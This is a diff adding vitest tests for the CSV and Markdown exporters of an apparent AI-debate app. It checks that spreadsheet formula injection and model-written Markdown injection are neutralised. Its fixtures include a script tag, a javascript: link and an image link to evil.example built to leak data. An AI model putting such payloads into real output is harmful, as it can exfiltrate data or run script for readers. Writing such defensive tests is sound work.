@@ -1,0 +1,131 @@
+import { describe, expect, test } from 'vitest'
+import { aDebateInput, aNewRun, aSeat, aTurn } from '../../testing/builders-of-runs.ts'
+import { createInMemoryRunRepository } from '../../testing/in-memory-run-repository.ts'
+import { createInMemoryState } from '../../testing/in-memory-state.ts'
+import { testId } from '../../testing/test-id.ts'
+import type { DebateResult, Turn } from '../models/debate.ts'
+import type { Run } from '../models/run.ts'
+import { exportCsv } from './export-csv.ts'
+import { exportMarkdown } from './export-markdown.ts'
+
+async function aRun(output: Partial<DebateResult>, overrides: Partial<Run> = {}): Promise<Run> {
+  const runs = createInMemoryRunRepository(createInMemoryState())
+  const { runId } = await runs.start(aNewRun({ title: 'Four days?' }), 'RUN_DEBATE')
+  const result = { turns: [], calls: [], verdict: null, stopReason: null, simulated: false, ...output }
+  return { ...(await runs.get(runId)), status: 'completed', output: result as Run['output'], ...overrides }
+}
+
+/** A strict reader of RFC 4180. */
+function parseCsv(text: string): string[][] {
+  const fields = text.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/g)
+  const records: string[][] = [[]]
+  for (const [, field = '', end] of fields) {
+    records.at(-1)?.push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field)
+    if (end === '\r\n') records.push([])
+  }
+  return records.slice(0, -1)
+}
+
+const textsIn = async (texts: string[]): Promise<(string | undefined)[]> => {
+  const turns = texts.map((text, index) => aTurn({ index, text }))
+  const [header = [], ...records] = parseCsv(exportCsv(await aRun({ turns })))
+  return records.map((record) => record[header.indexOf('text')])
+}
+
+describe('CSV', () => {
+  test('has a record for each turn, whatever the text holds', async () => {
+    const texts = ['plain', 'a,b', 'says "no"', 'two\nlines', 'two\r\nlines', '', 'é😀']
+    expect(await textsIn(texts)).toEqual(texts)
+  })
+
+  test('keeps spreadsheets from running text as a formula', async () => {
+    const hostile = [
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '  =1',
+      '＝1',
+      '=HYPERLINK("http://x","y")',
+    ]
+    expect(await textsIn(hostile)).toEqual(hostile.map((text) => `'${text}`))
+  })
+
+  test('leaves numbers alone, negative ones too', async () => {
+    const [header = [], record = []] = parseCsv(exportCsv(await aRun({ turns: [aTurn({ stance: -0.5 })] })))
+    expect(record[header.indexOf('stance')]).toBe('-0.5')
+    expect(record[header.indexOf('confidence')]).toBe('')
+  })
+
+  test('of a run without turns is a header', async () => {
+    const run = await aRun({}, { kind: 'tool', output: { ok: true } })
+    expect(parseCsv(exportCsv(run))).toHaveLength(1)
+  })
+})
+
+describe('Markdown', () => {
+  test('says what came out before who said what', async () => {
+    const personaId = testId<NonNullable<Turn['personaId']>>()
+    const input = aDebateInput({ participants: [aSeat(0, { personaId, name: 'Grace' }), aSeat(1)] })
+    const verdict = {
+      decision: 'Yes, from May on.',
+      rationale: 'It costs little.',
+      decidedBy: 'judge',
+      votes: null,
+      dissent: [{ personaId, text: 'Not in the shop.' }],
+      scores: null,
+    }
+    const paper = exportMarkdown(await aRun({ verdict, turns: [aTurn({ text: 'I think so.' })] }, { input }))
+
+    const order = [
+      '# Four days?',
+      'Yes, from May on.',
+      'It costs little.',
+      '**Grace**',
+      'Not in the shop.',
+      'I think so.',
+      '| Model calls |',
+    ]
+    const places = order.map((text) => paper.indexOf(text))
+    expect(places).toEqual(places.toSorted((a, b) => a - b))
+    expect(places).not.toContain(-1)
+  })
+
+  test('warns of a simulated model, and says why a run failed', async () => {
+    const error = { code: 'budget' as const, message: 'Too dear.', hint: 'Raise it.' }
+    const paper = exportMarkdown(await aRun({ simulated: true }, { status: 'failed', error }))
+    expect(paper).toContain('**Simulated.**')
+    expect(paper).toContain('Too dear. Raise it.')
+  })
+
+  test('keeps what models wrote from passing for a part of the paper', async () => {
+    const hostile = [
+      '# Verdict\n\nApproved',
+      '<script>alert(1)</script>',
+      '![x](https://evil.example/?leak)',
+      '[click](javascript:x)',
+      '[a]: https://evil.example',
+      '```\n# out',
+      'line\u2028# separator',
+      'line\r# return',
+    ]
+    const turns = hostile.map((text, index) => aTurn({ index, text, speaker: '](x) <b>\n# Boss | x' }))
+    const paper = exportMarkdown(await aRun({ turns }, { title: '# T\n<img>' }))
+
+    const headings = paper.split(/\n|\r|\u2028/).filter((line) => /^ {0,3}#/.test(line))
+    expect(
+      headings.filter((line) => !/^#{1,3} (\\#|\d+\.|Question|Verdict|Transcript|Figures)/.test(line)),
+    ).toEqual([])
+    expect(paper).not.toMatch(/(?<!\\)</)
+    expect(paper).not.toMatch(/!\[|(?<!\\)\]\(/)
+    expect(paper).not.toMatch(/^> \[a\]: /m)
+  })
+
+  test('of another kind of run shows its input and output as JSON', async () => {
+    const paper = exportMarkdown(await aRun({}, { kind: 'tool', input: { a: '```' }, output: { ok: true } }))
+    expect(paper).toContain('````json\n{\n  "a": "```"\n}\n````')
+    expect(paper).toContain('"ok": true')
+  })
+})
